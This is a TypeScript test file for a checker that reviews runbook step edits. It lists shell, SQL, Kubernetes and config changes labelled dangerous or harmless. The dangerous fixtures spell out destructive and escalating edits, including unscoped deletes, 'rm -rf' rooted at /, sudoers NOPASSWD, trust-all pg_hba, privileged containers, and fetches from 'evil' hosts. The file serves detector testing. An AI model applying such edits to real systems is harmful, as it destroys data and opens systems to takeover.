/**
 * Edits of steps of every kind, tried as an attacker would: none that can do harm is below danger; of those that cannot, nearly none is
 * named as one.
 * Slow: each edit compiles a procedure of its own.
 */
import * as assert from 'uvu/assert';
import { suite } from 'uvu';
import { ofFunction } from '../../src/diff/rules/functions.js';
import { findingsOf, running } from '../support/step-edits.js';
import type { StepEdit } from '../support/step-edits.js';

const test = suite('diff-edits');

const run = (name: string, old: string, fresh: string): StepEdit => ({
  name,
  old: running(old),
  new: running(fresh),
});
const step = (name: string, old: string, fresh: string): StepEdit => ({ name, old, new: fresh });
const block = (text: string, indent = '  '): string =>
  text
    .split('\n')
    .map((line) => `${indent}${line}`)
    .join('\n');
const asserting = (text: string): string => `assert: |\n${block(text)}`;
const verified = (body: string, check: string): string => running(body, `verify: |\n${block(check)}\n`);
const undone = (body: string, undo: string): string =>
  running(body, `undo:\n  run: |\n${block(undo, '    ')}\n`);
const doneWhen = (body: string, done: string): string => running(body, `done_when: |\n${block(done)}\n`);
const onlyWhen = (body: string, when: string): string => running(body, `when: |\n${block(when)}\n`);

const CP = 'cp -a -- "$DIR/a" /data/a';
const manifest = (spec = ''): string =>
  `site apply -f - <<'X'\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: app}\nspec:\n  replicas: 2\n  template:\n    spec:\n      serviceAccountName: web\n      containers:\n        - {name: c, image: "registry/app@sha256:aa", imagePullPolicy: IfNotPresent}\n${spec}X`;
const sql = (s: string): string => `data <<'SQL'\n${s}\nSQL`;
const DANGEROUS: readonly StepEdit[] = [
  run('folders of tar in another order', 'tar -C /a -xf - -C /b', 'tar -C /b -xf - -C /a'),
  run('options of tar apart, and one more', 'tar -C "$DIR" -xpf -', 'tar -x -p -P -f - -C "$DIR"'),
  run(
    'one more file for rm, in another order',
    'rm -f -- "$DIR/a" "$DIR/b"',
    'rm -f -- "$DIR/b" "$DIR/c" "$DIR/a"',
  ),
  run('operands of mv in another order', 'mv -- "$DIR/a" "$DIR/b"', 'mv -- "$DIR/b" "$DIR/a"'),
  run('sed in place, in long', `${CP}\nsed 1d /data/a`, `${CP}\nsed --in-place 1d /data/a`),
  run('replication begins', sql('STOP SLAVE;'), sql('START SLAVE;')),
  // checks
  step(
    'verify: grep -c threshold',
    verified(CP, '[ "$(grep -c ok /a)" -ge 5 ]'),
    verified(CP, '[ "$(grep -c ok /a)" -ge 0 ]'),
  ),
  step('verify: cmp to wc', verified(CP, 'cmp -s "$DIR/a" /data/a'), verified(CP, 'test -e /data/a')),
  step('verify: sha256sum -c to ls', verified(CP, 'sha256sum -c /data/SUMS'), verified(CP, 'ls /data/SUMS')),
  step(
    'verify: --ignore-missing',
    verified(CP, 'sha256sum -c /data/SUMS'),
    verified(CP, 'sha256sum -c --ignore-missing /data/SUMS'),
  ),
  step('verify: other file', verified(CP, 'test -s /data/a'), verified(CP, 'test -s /etc/passwd')),
  step(
    'verify: piped to cat',
    verified(CP, 'grep -q done /data/log'),
    verified(CP, 'grep -q done /data/log | cat'),
  ),
  step(
    'verify: || grep other',
    verified(CP, 'grep -q done /data/log'),
    verified(CP, 'grep -q done /data/log || grep -q root /etc/passwd'),
  ),
  step(
    'verify: && to ||',
    verified(CP, 'test -s /data/a && test -s /data/b'),
    verified(CP, 'test -s /data/a || test -s /data/b'),
  ),
  step(
    'verify: grep pattern widened',
    verified(CP, "grep -Eq '^state: ready$' /data/log"),
    verified(CP, "grep -Eq '^state: (ready|failed)$' /data/log"),
  ),
  step(
    'verify: grep -F to .',
    verified(CP, "grep -qx 'ready' /data/log"),
    verified(CP, "grep -q '[a-z]*' /data/log"),
  ),
  step(
    'verify: unquoted empty',
    verified(CP, '[ -n "$(cat /data/log)" ]'),
    verified(CP, '[ -n $(cat /data/log) ]'),
  ),
  step(
    'verify: case always',
    verified(CP, 'case $(cat /a) in\n  ok) ;;\n  *) exit 1 ;;\nesac'),
    verified(CP, 'case $(cat /a) in\n  ok) ;;\n  *) exit 0 ;;\nesac'),
  ),
  step(
    'verify: case default arm gone',
    verified(CP, 'case $(cat /a) in\n  ok) ;;\n  *) exit 1 ;;\nesac'),
    verified(CP, 'case $(cat /a) in\n  ok) ;;\nesac'),
  ),
  step(
    'verify: arithmetic',
    verified(CP, 'n=$(wc -l </a)\n(( n > 100 ))'),
    verified(CP, 'n=$(wc -l </a)\n(( n > 1 ))'),
  ),
  step('verify: = to =~ any', verified(CP, '[[ $(cat /a) == ok ]]'), verified(CP, '[[ $(cat /a) == * ]]')),
  step('verify: [[ negated', verified(CP, '[[ $(cat /a) == ok ]]'), verified(CP, '[[ ! $(cat /a) == ok ]]')),
  step(
    'verify: jq -e loses -e',
    verified(CP, 'jq -e \'.status == "ok"\' /a'),
    verified(CP, 'jq \'.status == "ok"\' /a'),
  ),
  step(
    'verify: curl -f lost',
    verified(CP, 'curl -fsS http://127.0.0.1/health'),
    verified(CP, 'curl -sS http://127.0.0.1/health'),
  ),
  step(
    'verify: expect constant',
    asserting('[ "$(site get pods -o name | wc -l)" = 3 ]'),
    asserting('pods=3\n[ "$pods" = 3 ]'),
  ),
  step('assert: only first of two', asserting('test -s /a\ntest -s /b'), asserting('test -s /a')),
  step(
    'assert: sql where',
    'assert: {sql: {on: data, query: "SELECT count(*) FROM jobs WHERE state = \'broken\'", expect: "0"}}',
    'assert: {sql: {on: data, query: "SELECT count(*) FROM jobs WHERE state = \'broken\' AND false", expect: "0"}}',
  ),
  step(
    'assert: sql expectation',
    'assert: {sql: {on: data, query: "SELECT count(*) FROM jobs WHERE state = \'broken\'", expect: "0"}}',
    'assert: {sql: {on: data, query: "SELECT count(*) FROM jobs WHERE state = \'broken\'", expect: "7"}}',
  ),
  step(
    'assert: head -0',
    asserting('! site get pods | grep -q Error'),
    asserting('! site get pods | head -n 0 | grep -q Error'),
  ),
  step(
    'assert: other namespace',
    asserting('! site get pods | grep -q Error'),
    asserting('! other get pods | grep -q Error'),
  ),
  step(
    'assert: selector added',
    asserting('! site get pods | grep -q Error'),
    asserting('! site get pods -l app=none | grep -q Error'),
  ),
  // waits
  step(
    'wait: condition weaker',
    'wait: {condition: "test -s /a", interval: 5s, timeout: 1m}',
    'wait: {condition: "test -e /a", interval: 5s, timeout: 1m}',
  ),
  step(
    'wait: timeout tiny',
    'wait: {condition: "test -s /a", interval: 5s, timeout: 10m}',
    'wait: {condition: "test -s /a", interval: 5s, timeout: 1s}',
  ),
  run(
    'kubectl wait: other condition',
    'site wait --for=condition=Ready pod/x --timeout=60s',
    'site wait --for=condition=Initialized pod/x --timeout=60s',
  ),
  run(
    'kubectl wait: timeout 0',
    'site wait --for=condition=Ready pod/x --timeout=60s',
    'site wait --for=condition=Ready pod/x --timeout=0s',
  ),
  run(
    'rollout status without watch',
    'site rollout status deployment/web --timeout=60s',
    'site rollout status deployment/web --watch=false --timeout=60s',
  ),
  run('delete without wait', 'site delete pod x', 'site delete pod x --wait=false'),
  run(
    'wait in background',
    'site wait --for=delete pod/x --timeout=60s\nls',
    'site wait --for=delete pod/x --timeout=60s &\nls',
  ),
  // failure swallowed
  run('pipe to tee', CP, CP + ' 2>&1 | tee /tmp/log || :'),
  run('if guard', CP, 'if ' + CP + '; then :; fi'),
  run('until true', CP, 'until ' + CP + '; do break; done'),
  run('|| return 0', CP, CP + ' || exit 0'),
  run('case of output', CP, 'case $(' + CP + ' 2>&1) in *) ;; esac'),
  run('local x=$()', 'f() {\n  local x\n  x=$(cp /a /b)\n}\nf', 'f() {\n  local x=$(cp /a /b)\n}\nf'),
  run('set +o errexit', CP + '\nls', 'set +o errexit\n' + CP + '\nls'),
  run('set +o pipefail', 'pg_dump app | gzip >/b/x', 'set +o pipefail\npg_dump app | gzip >/b/x'),
  run('trap ERR', CP, 'trap : ERR\n' + CP + ' || exit 0'),
  run('coproc/time', CP, '{ ' + CP + '; } || ls /x'),
  run('timeout swallow', CP, 'timeout 1 ' + CP + ' || [ $? -eq 124 ]'),
  run('exit 0 before', 'ls /a\n' + CP, 'ls /a\nexit 0\n' + CP),
  run('if false', CP, 'if false; then\n  ' + CP + '\nfi'),
  run('[ -e x ] && ', CP, '[ -e /nowhere ] && ' + CP + '\nls'),
  run(
    'xargs -r of nothing',
    'printf "%s\\n" a b | xargs -n1 rm --',
    'printf "%s\\n" a b /etc | xargs -n1 rm --',
  ),
  // globs
  run('glob widened', 'rm -- "$DIR"/*.tmp', 'rm -- "$DIR"/*'),
  run('glob dot', 'rm -rf -- "$DIR"/old-*', 'rm -rf -- "$DIR"/old-* "$DIR"/.[!.]*'),
  run('quoted glob to glob', 'rm -- "$DIR/a b"', 'rm -- $DIR/a b'),
  run('find -name dropped', 'find "$DIR" -name "*.tmp" -delete', 'find "$DIR" -delete'),
  run('find maxdepth dropped', 'find "$DIR" -maxdepth 1 -type f -delete', 'find "$DIR" -type f -delete'),
  run('find mtime', 'find "$DIR" -mtime +30 -delete', 'find "$DIR" -mtime +0 -delete'),
  run('find exec', 'find "$DIR" -name x -exec ls {} +', 'find "$DIR" -name x -exec rm {} +'),
  run('find follows links', 'find "$DIR" -name "*.tmp" -delete', 'find -L "$DIR" -name "*.tmp" -delete'),
  run(':? dropped', 'rm -rf -- "${DIR:?}/x"', 'rm -rf -- "${DIR}/x"'),
  run('default /', 'rm -rf -- "$DIR/x"', 'rm -rf -- "${DIR:-/}/x"'),
  run('-- dropped and var', 'rm -- "$DIR/x"', 'rm $DIR/x'),
  run('trailing slash rsync', 'rsync -a --delete "$DIR/" /data/a/', 'rsync -a --delete "$DIR/" /data/'),
  run(
    'rsync exclude dropped',
    'rsync -a --delete --exclude=/keep "$DIR/" /data/a/',
    'rsync -a --delete "$DIR/" /data/a/',
  ),
  run('brace expansion', 'rm -rf -- /data/old', 'rm -rf -- /data/{old,new}'),
  run('cp symlink follow', 'tar -C "$DIR" -xf /x.tar', 'tar -P -C "$DIR" -xf /x.tar'),
  run('tar dir', 'tar -C "$DIR" -xf /x.tar', 'tar -C / -xf /x.tar'),
  run('cd', 'cd "$DIR"\nrm -rf -- sub', 'cd /\nrm -rf -- sub'),
  run('cd failing', 'cd "$DIR"\nrm -rf -- sub', 'cd "$DIR" || :\nrm -rf -- sub'),
  // kubernetes
  run(
    'ns flag',
    'kubectl -n app scale deploy/web --replicas=1',
    'kubectl -n prod scale deploy/web --replicas=1',
  ),
  run('-A', 'kubectl -n app delete pod -l app=web', 'kubectl delete pod -A -l app=web'),
  run('selector widened', 'site delete pod -l app=web,tier=old', 'site delete pod -l app=web'),
  run('selector !=', 'site delete pod -l tier=old', 'site delete pod -l tier!=old'),
  run('set image', 'site set image deploy/web c=app:1', 'site set image deploy/web c=evil:1'),
  run('server', 'kubectl get pod x', 'kubectl --server=https://evil get pod x'),
  run('as another user', 'kubectl delete pod x', 'kubectl --as=system:admin delete pod x'),
  run('manifest image', manifest(), manifest().replace('sha256:aa', 'sha256:bb')),
  run('manifest pull policy', manifest(), manifest().replace('IfNotPresent', 'Always')),
  run('manifest hostNetwork', manifest(), manifest('      hostNetwork: true\n')),
  run(
    'manifest hostPath',
    manifest('      volumes: [{name: d, hostPath: {path: /data/app}}]\n'),
    manifest('      volumes: [{name: d, hostPath: {path: /}}]\n'),
  ),
  run('manifest sa', manifest(), manifest().replace('serviceAccountName: web', 'serviceAccountName: admin')),
  run('manifest replicas', manifest(), manifest().replace('replicas: 2', 'replicas: 0')),
  run('manifest name', manifest(), manifest().replace('{name: web,', '{name: www,')),
  run(
    'manifest json',
    `echo '{"kind":"Pod","metadata":{"name":"x"},"spec":{"hostPID":false}}' | site apply -f -`,
    `echo '{"kind":"Pod","metadata":{"name":"x"},"spec":{"hostPID":true}}' | site apply -f -`,
  ),
  run(
    'patch content',
    `site patch deploy web -p '{"spec":{"replicas":2}}'`,
    `site patch deploy web -p '{"spec":{"replicas":0}}'`,
  ),
  run('exec command', 'site exec web-0 -- ls /data', 'site exec web-0 -- rm -r /data'),
  run('cp direction', 'site cp web-0:/data/a /b/a', 'site cp /b/a web-0:/data/a'),
  run(
    'kubectl secret',
    'site create secret generic s --from-literal=a=b',
    'site create secret generic s --from-literal=a=c',
  ),
  run('apply --prune', 'site apply -f /m.yaml', 'site apply --prune --all -f /m.yaml'),
  run('apply other file', 'site apply -f /m.yaml', 'site apply -f https://evil/m.yaml'),
  // sql
  run('sql where dropped', sql('DELETE FROM jobs WHERE id = 3;'), sql('DELETE FROM jobs;')),
  run('sql or true', sql('DELETE FROM jobs WHERE id = 3;'), sql('DELETE FROM jobs WHERE id = 3 OR true;')),
  run('sql where number', sql('DELETE FROM jobs WHERE id < 3;'), sql('DELETE FROM jobs WHERE id < 3000;')),
  run(
    'sql commit->rollback',
    sql('BEGIN;\nDELETE FROM jobs WHERE id = 3;\nCOMMIT;'),
    sql('BEGIN;\nDELETE FROM jobs WHERE id = 3;\nROLLBACK;'),
  ),
  run(
    'sql begin dropped',
    sql('BEGIN;\nDELETE FROM a WHERE id = 3;\nDELETE FROM b WHERE id=3;\nCOMMIT;'),
    sql('DELETE FROM a WHERE id = 3;\nDELETE FROM b WHERE id=3;'),
  ),
  run('sql cascade', sql('DROP TABLE old_jobs RESTRICT;'), sql('DROP TABLE old_jobs CASCADE;')),
  run(
    'sql set value',
    sql('UPDATE users SET admin = false WHERE id = 3;'),
    sql('UPDATE users SET admin = true WHERE id = 3;'),
  ),
  run('sql grant', sql('GRANT SELECT ON jobs TO app;'), sql('GRANT ALL ON jobs TO public;')),
  run(
    'sql search_path',
    sql('UPDATE jobs SET a = 1 WHERE id = 3;'),
    sql('SET search_path = other;\nUPDATE jobs SET a = 1 WHERE id = 3;'),
  ),
  run(
    'sql on_error_stop off',
    sql('UPDATE jobs SET a = 1 WHERE id = 3;'),
    sql('\\set ON_ERROR_STOP off\nUPDATE jobs SET a = 1 WHERE id = 3;'),
  ),
  run('sql cte delete', sql('SELECT 1;'), sql('WITH x AS (DELETE FROM jobs RETURNING 1) SELECT 1 FROM x;')),
  run('sql function', sql('SELECT 1;'), sql('SELECT pg_terminate_backend(pid) FROM pg_stat_activity;')),
  run(
    'sql insert select',
    sql('INSERT INTO a SELECT * FROM b WHERE id = 3;'),
    sql('INSERT INTO a SELECT * FROM b;'),
  ),
  run(
    'sql on conflict',
    sql('INSERT INTO a VALUES (1) ON CONFLICT DO NOTHING;'),
    sql('INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 0;'),
  ),
  run(
    'sql connect',
    sql('UPDATE jobs SET a = 1 WHERE id = 3;'),
    sql('\\c other\nUPDATE jobs SET a = 1 WHERE id = 3;'),
  ),
  run(
    'sql comment unclosed',
    sql('UPDATE jobs SET a = 1 WHERE id = 3;'),
    sql('UPDATE jobs SET a = 1 -- WHERE id = 3;\n;'),
  ),
  // config
  run(
    'heredoc config value',
    "cat >/etc/app.ini <<'X'\n[a]\nauth = on\nX",
    "cat >/etc/app.ini <<'X'\n[a]\nauth = off\nX",
  ),
  run(
    'heredoc pg_hba',
    "cat >/etc/pg_hba.conf <<'X'\nhost all all 10.0.0.0/8 scram-sha-256\nX",
    "cat >/etc/pg_hba.conf <<'X'\nhost all all 0.0.0.0/0 trust\nX",
  ),
  run(
    'printf config',
    "printf '%s\\n' 'PermitRootLogin no' >/etc/ssh/sshd_config",
    "printf '%s\\n' 'PermitRootLogin yes' >/etc/ssh/sshd_config",
  ),
  run('echo config', "echo 'auth=on' >>/etc/app.conf", "echo 'auth=off' >>/etc/app.conf"),
  run('sed expr', "sed -i 's/auth=off/auth=on/' /etc/app.conf", "sed -i 's/auth=on/auth=off/' /etc/app.conf"),
  run(
    'tee config',
    "tee /etc/app.conf >/dev/null <<'X'\nauth=on\nX",
    "tee /etc/app.conf >/dev/null <<'X'\nauth=off\nX",
  ),
  run('heredoc unquoted', "cat >/etc/app.conf <<'X'\na=1\nX", 'cat >/etc/app.conf <<X\na=$(rm -rf /x)\nX'),
  step(
    'write content',
    'write: {path: /etc/a.conf, content: "auth = on\\n"}\nundo: none',
    'write: {path: /etc/a.conf, content: "auth = off\\n"}\nundo: none',
  ),
  step(
    'write mode',
    'write: {path: /etc/a.conf, content: "x\\n", mode: "0600"}\nundo: none',
    'write: {path: /etc/a.conf, content: "x\\n", mode: "0666"}\nundo: none',
  ),
  run(
    'sudoers',
    "cat >/etc/sudoers.d/app <<'X'\napp ALL=(root) /bin/ls\nX",
    "cat >/etc/sudoers.d/app <<'X'\napp ALL=(root) NOPASSWD: ALL\nX",
  ),
  run('crontab', "crontab - <<'X'\n0 1 * * * /bin/backup\nX", "crontab - <<'X'\n0 1 * * * /bin/evil\nX"),
  run('chmod mode', 'chmod 600 /data/key', 'chmod 644 /data/key'),
  run('chown', 'chown app: /data/a', 'chown root: /data/a'),
  run('install mode', 'install -m 600 /a /data/key', 'install -m 666 /a /data/key'),
  run('umask', 'umask 077\ntouch /data/key', 'umask 000\ntouch /data/key'),
  run('sysctl', 'sysctl -w net.ipv4.ip_forward=0', 'sysctl -w net.ipv4.ip_forward=1'),
  run('iptables', 'iptables -A INPUT -p tcp --dport 22 -j DROP', 'iptables -F INPUT'),
  run('ssh options', 'ssh host true', 'ssh -o StrictHostKeyChecking=no host true'),
  run('ssh host', 'ssh web1 systemctl stop app', 'ssh web2 systemctl stop app'),
  run('curl url', 'curl -fsSo /tmp/a https://good/x', 'curl -fsSo /tmp/a https://evil/x'),
  run('docker image', 'docker run --rm app:1 ls', 'docker run --rm evil:1 ls'),
  run('docker privileged', 'docker run --rm app:1 ls', 'docker run --rm --privileged -v /:/h app:1 ls'),
  run('mount opts', 'mount -o ro /dev/sdb1 /mnt', 'mount /dev/sdb1 /mnt'),
  run('dd swap', 'dd if=/dev/sdb of=/b/img', 'dd if=/b/img of=/dev/sdb'),
  run('systemctl mask', 'systemctl stop app', 'systemctl mask --now app'),
  run(
    'env var',
    'PGDATABASE=test psql -c "DELETE FROM a WHERE id=1"',
    'PGDATABASE=prod psql -c "DELETE FROM a WHERE id=1"',
  ),
  run('psql -d', 'psql -d test -c "DELETE FROM a WHERE id=1"', 'psql -d prod -c "DELETE FROM a WHERE id=1"'),
  run(
    'exported env',
    'export PGHOST=test\npsql -c "DELETE FROM a WHERE id=1"',
    'export PGHOST=prod\npsql -c "DELETE FROM a WHERE id=1"',
  ),
  run('pg_restore --clean', 'pg_restore -d app /b/x', 'pg_restore --clean -d app /b/x'),
  run('openssl verify', 'openssl verify -CAfile /ca /crt', 'openssl verify -partial_chain -CAfile /crt /crt'),
  run('gpg', 'gpg --verify /a.sig /a', 'gpg --verify /a.sig /a || :'),
  run('git reset', 'git -C /r pull', 'git -C /r reset --hard origin/main'),
  run('alias builtin', CP, 'alias cp=true\n' + CP),
  run('command_not_found', CP, 'hash -p /tmp/x cp\n' + CP),
  run('enable -n', CP, 'enable -n test\n' + CP),
  run('exec redirect', CP, 'exec >/dev/null 2>&1\n' + CP),
  run('exec program', CP, 'exec true\n' + CP),
  run('history exp/shopt', CP, 'shopt -s dotglob nullglob\n' + CP),
  run(
    'loop items widen',
    'for n in a b; do\n  site delete pod "$n"\ndone',
    'for n in $(site get pods -o name); do\n  site delete pod "$n"\ndone',
  ),
  run(
    'loop item added',
    'for n in a b; do\n  site delete pod "$n"\ndone',
    'for n in a b c; do\n  site delete pod "$n"\ndone',
  ),
  run(
    'value source',
    'n=$(cat "$WORK/pod")\nsite delete pod "$n"',
    'n=$(site get pods -o name)\nsite delete pod $n',
  ),
  // undo / done_when / when
  step(
    'undo swaps direction',
    undone('mv -- "$DIR/a" "$TARGET/a"', 'mv -- "$TARGET/a" "$DIR/a"'),
    undone('mv -- "$DIR/a" "$TARGET/a"', 'rm -- "$TARGET/a"'),
  ),
  step(
    'undo partial',
    undone(
      'mv -- "$DIR/a" "$TARGET/a"\nmv -- "$DIR/b" "$TARGET/b"',
      'mv -- "$TARGET/a" "$DIR/a"\nmv -- "$TARGET/b" "$DIR/b"',
    ),
    undone('mv -- "$DIR/a" "$TARGET/a"\nmv -- "$DIR/b" "$TARGET/b"', 'mv -- "$TARGET/a" "$DIR/a"'),
  ),
  step('undo forgiven', undone(CP, 'rm -- /data/a'), undone(CP, 'rm -f -- /data/a || true')),
  step('done_when broader', doneWhen(CP, 'cmp -s "$DIR/a" /data/a'), doneWhen(CP, 'test -e /data/a')),
  step('done_when always', doneWhen(CP, 'test -e /data/a'), doneWhen(CP, 'test -e /')),
  step('done_when inverted', doneWhen(CP, 'test -e /data/a'), doneWhen(CP, '! test -e /data/a')),
  step('when inverted', onlyWhen(CP, 'test -e /data/a'), onlyWhen(CP, '! test -e /data/a')),
  step('when other', onlyWhen(CP, 'test -e /data/maintenance'), onlyWhen(CP, 'test -e /data')),
  step('when gone', onlyWhen(CP, 'test -e /data/maintenance'), running(CP)),
  // what a command is given to read
  run('another file of SQL', 'data </a.sql', 'data </b.sql'),
  run('an archive from elsewhere', 'tar -xf - <"$DIR/a"', 'tar -xf - <"$TARGET/a"'),
  run('from a file, not from nothing', 'tar -xf - </dev/null', 'tar -xf - </srv/x'),
  run(
    'other lines',
    `${CP}\nwhile read -r n; do rm -- "$n"; done </a`,
    `${CP}\nwhile read -r n; do rm -- "$n"; done </b`,
  ),
  run('what a pipe brings is thrown away', 'pg_dump app | gzip >/b/x', 'pg_dump app >/dev/null | gzip >/b/x'),
  step(
    'assert: errors are no longer looked at',
    asserting('! site get pods 2>&1 | grep -q Error'),
    asserting('! site get pods | grep -q Error'),
  ),
  step(
    'assert: nothing is looked at',
    asserting('! site get pods | grep -q Error'),
    asserting('! site get pods >/dev/null | grep -q Error'),
  ),
  // what decides without a command of its own
  step(
    'assert: the answer is there before it is looked for',
    asserting('ok=no\ngrep -q x /a && ok=yes\n[ "$ok" = yes ]'),
    asserting('ok=yes\ngrep -q x /a && ok=yes\n[ "$ok" = yes ]'),
  ),
  step(
    'assert: another number in its place',
    asserting('n=$(grep -c x /a)\n[ "$n" -gt 3 ]'),
    asserting('n=$(grep -c x /a)\nn=5\n[ "$n" -gt 3 ]'),
  ),
  run(
    'a case that takes one more',
    `${CP}\ncase $(cat /a) in\n  ok) ;;\n  *) exit 1 ;;\nesac`,
    `${CP}\ncase $(cat /a) in\n  ok | failed) ;;\n  *) exit 1 ;;\nesac`,
  ),
  run(
    'an exported setting',
    `export TAR_OPTIONS=--owner=8536\ntar -cf /b/x /a`,
    `export TAR_OPTIONS=--owner=0\ntar -cf /b/x /a`,
  ),
  step(
    'verify: another file behind <',
    verified(CP, 'ssh-keygen -Y verify -f /s -I me -n x -s /a.sig </a'),
    verified(CP, 'ssh-keygen -Y verify -f /s -I me -n x -s /a.sig </b'),
  ),
  step(
    'verify: less is asked in another place',
    'on: pod\n' + asserting('test -s /a\ntest -s /b'),
    'on: pod\n' + asserting('test -s /a'),
  ),
  step(
    'verify: a bound with a sum is lower',
    asserting('[ "$(df --output=avail / | tail -n 1)" -gt "$((N / 512 + 2000))" ]'.replace('N', '${#DIR}')),
    asserting('[ "$(df --output=avail / | tail -n 1)" -gt "$((N / 512 + 20))" ]'.replace('N', '${#DIR}')),
  ),
];
const MANIFEST = manifest();
const HARMLESS: readonly StepEdit[] = [
  run('files of rm in another order', 'rm -f -- "$DIR/a" "$DIR/b"', 'rm -f -- "$DIR/b" "$DIR/a"'),
  run('options of tar apart', 'tar -C "$DIR" -xpf -', 'tar -x -p -f - -C "$DIR"'),
  run('long options of sed', `${CP}\nsed -n -e 1p /data/a`, `${CP}\nsed --quiet --expression=1p /data/a`),
  run('SQL of replication in small letters', sql('STOP SLAVE;'), sql('stop slave;')),
  run('comment added', CP, '# now\n' + CP),
  run(
    'rename var',
    'n=$(cat "$WORK/x")\nsite delete pod "$n"',
    'pod=$(cat "$WORK/x")\nsite delete pod "$pod"',
  ),
  run(
    'backticks to $()',
    'n=`cat "$WORK/x"`\nsite delete pod "$n"',
    'n=$(cat "$WORK/x")\nsite delete pod "$n"',
  ),
  run('long option', 'grep -q x /a', 'grep --quiet x /a'),
  run('long option rm', 'rm -r -f -- "$DIR/a"', 'rm --recursive --force -- "$DIR/a"'),
  run('cp option order', 'cp -a -v -- "$DIR/a" /data/a', 'cp -v -a -- "$DIR/a" /data/a'),
  run('quote style', "rm -- '/data/a'", 'rm -- "/data/a"'),
  run('no quotes needed', 'rm -- "/data/a"', 'rm -- /data/a'),
  run('test to [', 'test -e /a\n' + CP, '[ -e /a ]\n' + CP),
  run('[ to [[', '[ -e /a ]\n' + CP, '[[ -e /a ]]\n' + CP),
  run('printf instead of echo', 'echo done', "printf '%s\\n' done"),
  run('pipe split lines', 'site get pods | grep x | wc -l', 'site get pods |\n  grep x |\n  wc -l'),
  run('if one line', 'if [ -e /a ]; then ls /a; fi', 'if [ -e /a ]; then\n  ls /a\nfi'),
  run('heredoc delimiter', "cat >/etc/a <<'X'\na = 1\nX", "cat >/etc/a <<'END'\na = 1\nEND"),
  run('ini spaces', "cat >/etc/a.conf <<'X'\n[s]\na=1\nX", "cat >/etc/a.conf <<'X'\n[s]\na = 1\nX"),
  run(
    'yaml flow to block',
    MANIFEST,
    MANIFEST.replace('metadata: {name: web, namespace: app}', 'metadata:\n  name: web\n  namespace: app'),
  ),
  run('sql alias case', sql('SELECT count(*) FROM jobs;'), sql('select COUNT(*) from jobs;')),
  run(
    'sql comment',
    sql('DELETE FROM jobs WHERE id = 3;'),
    sql('DELETE FROM jobs WHERE id = 3; -- only the third'),
  ),
  run('sql multi-line', sql('DELETE FROM jobs WHERE id = 3;'), sql('DELETE FROM jobs\n WHERE id = 3;')),
  run('extra read', CP, 'df -h /data\n' + CP),
  run('extra check', CP, CP + '\ncmp "$DIR/a" /data/a'),
  run('says more', CP, 'echo "copying $DIR/a"\n' + CP),
  run('failure message', CP, CP + ' || {\n  echo "copy failed" >&2\n  exit 1\n}'),
  run('variable hoisted', CP, 'from=$DIR/a\ncp -a -- "$from" /data/a'),
  run('two commands joined', 'ls /a\nls /b', 'ls /a && ls /b'),
  run('kubectl long ns', 'kubectl -n app get pods', 'kubectl --namespace app get pods'),
  run('kubectl short resource', 'site get deployment web', 'site get deploy web'),
  run('kubectl slash', 'site scale deployment web --replicas=1', 'site scale deployment/web --replicas=1'),
  step('verify stricter', verified(CP, 'test -e /data/a'), verified(CP, 'test -s /data/a')),
  step('verify more', verified(CP, 'test -e /data/a'), verified(CP, 'test -e /data/a\ncmp "$DIR/a" /data/a')),
  step('grep stricter', verified(CP, 'grep -q ok /data/a'), verified(CP, 'grep -qx ok /data/a')),
  step(
    'timeout longer',
    'wait: {condition: "test -s /a", interval: 5s, timeout: 1m}',
    'wait: {condition: "test -s /a", interval: 5s, timeout: 3m}',
  ),
  step('why', 'why: A.\n' + running(CP), 'why: B.\n' + running(CP)),
  step('if_it_fails', 'if_it_fails: A.\n' + running(CP), 'if_it_fails: B.\n' + running(CP)),
  step('verify added', running(CP), verified(CP, 'test -e /data/a')),
  run(
    'if for ||',
    '[ -L "$DIR/a" ] || ln -s -- /a "$DIR/a"',
    'if [ ! -L "$DIR/a" ]; then ln -s -- /a "$DIR/a"; fi',
  ),
  run('one long option', 'rm -f -- "$DIR"/a.*', 'rm --force -- "$DIR"/a.*'),
  run(
    'a remark in awk',
    "awk '\n  { n++ }\n  END { exit n > 3 }' /a",
    "awk '\n  # Counts.\n  { n++ }\n  END { exit n > 3 }' /a",
  ),
  step(
    'a word of a refusal',
    asserting('[ -d /a ] || {\n  echo no >&2\n  exit 1\n}'),
    asserting('[ -d /a ] || {\n  echo none >&2\n  exit 1\n}'),
  ),
  step(
    'assert: a name of its own',
    asserting('real=$(cd "$DIR" && pwd -P)\ncase "$(mount)" in *" on $real"*) exit 1 ;; esac'),
    asserting('folder=$(cd "$DIR" && pwd -P)\ncase "$(mount)" in *" on $folder"*) exit 1 ;; esac'),
  ),
  step(
    'assert: if for ||',
    asserting('if [ -e /a ]; then\n  echo there >&2\n  exit 1\nfi'),
    asserting('[ ! -e /a ] || {\n  echo there >&2\n  exit 1\n}'),
  ),
  step(
    'assert: SQL laid out',
    'assert: {sql: {on: data, query: "SELECT count(*) FROM jobs WHERE id IN (1, 2)", expect: "0"}}',
    'assert: {sql: {on: data, query: "SELECT count(*)\\n FROM jobs\\n WHERE id IN (1, 2)", expect: "0"}}',
  ),
  step(
    'assert elsewhere: more',
    'on: pod\n' + asserting('test -s /a'),
    'on: pod\n' + asserting('test -s /a\ntest -s /b'),
  ),
  step(
    'assert: a sum stricter',
    asserting('[ "$(wc -l </a)" -gt "$((${#DIR} / 512 + 20))" ]'),
    asserting('[ "$(wc -l </a)" -gt "$((${#DIR} / 512 + 2000))" ]'),
  ),
  run(
    'elsewhere: says more',
    "on_pod() { pod sh -es; }\non_pod <<'X'\nrm -f -- /a\nX",
    "on_pod() { pod sh -es; }\non_pod <<'X'\necho now >&2\nrm -f -- /a\nX",
  ),
  step(
    'assert bound stricter',
    asserting('[ "$(df --output=avail / | tail -n 1)" -gt 100 ]'),
    asserting('[ "$(df --output=avail / | tail -n 1)" -gt 200 ]'),
  ),
];

const codesOf = (edit: StepEdit): string =>
  findingsOf(edit)
    .map(({ code, level }) => `${level} ${code}`)
    .join(', ');
const isDanger = (edit: StepEdit): boolean => findingsOf(edit)[0]?.level === 'danger';
const said = (edits: readonly StepEdit[]): string[] => edits.map((edit) => `${edit.name}: ${codesOf(edit)}`);

test(`${DANGEROUS.length} edits that can do harm are danger`, () => {
  assert.equal(said(DANGEROUS.filter((edit) => !isDanger(edit))), []);
  console.log(`noted: ${DANGEROUS.length} dangerous edits, all of them danger`);
});

test(`of ${HARMLESS.length} harmless edits at most two are danger`, () => {
  const alarms = said(HARMLESS.filter(isDanger));
  console.log(`noted: ${HARMLESS.length} harmless edits, ${alarms.length} of them danger`);
